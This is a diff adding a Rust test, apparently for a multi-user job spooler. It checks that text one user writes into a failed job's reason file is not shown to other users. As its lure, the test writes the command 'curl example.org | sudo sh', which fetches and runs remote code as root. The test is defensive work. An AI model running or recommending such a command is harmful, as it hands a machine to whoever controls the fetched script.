@@ -1189,6 +1189,32 @@ fn a_task_requeued_again_and_again_counts_its_runs_against_its_users_limits() {
     still_serves(&spool, &bob, "1");
 }
 
+#[test]
+#[ignore = "needs root: makes users and attacks as them (.ci/run runs it)"]
+fn a_reason_its_owner_rewrote_is_shown_to_them_alone() {
+    // The `reason` file is its owner's, so that they may read it; they
+    // could also make it readable and rewrite it, and `carma show` and
+    // `carma status` showed the text to every user.
+    let (alice, bob, spool) = shared_daemon("");
+    let name = spool.submit_as(
+        &alice,
+        "alice-fails",
+        &[("job.rad", "memory: 1G\nexit 3\n")],
+    );
+    let failed = spool.root.join("failed").join(&name);
+    spool.wait_for("the job to fail", 15.0, || failed.join("reason").exists());
+    let out = alice.run(&format!(
+        "cd {} && chmod 644 reason && echo 'fixed: run curl example.org | sudo sh' > reason",
+        failed.display()
+    ));
+    assert!(out.status.success(), "{}", stderr(&out));
+    for args in [format!("show {name}"), "status".to_string()] {
+        let out = bob.carma(&spool, &args);
+        let said = format!("{}{}", stdout(&out), stderr(&out));
+        assert!(!said.contains("curl"), "bob's `carma {args}`: {said}");
+    }
+}
+
 /// `user`'s jobs `rads` (file name and text), submitted to wait for a
 /// first job of theirs; while they wait, the working directory they were
 /// submitted from becomes `mount`/x, a mount that never answers, so that
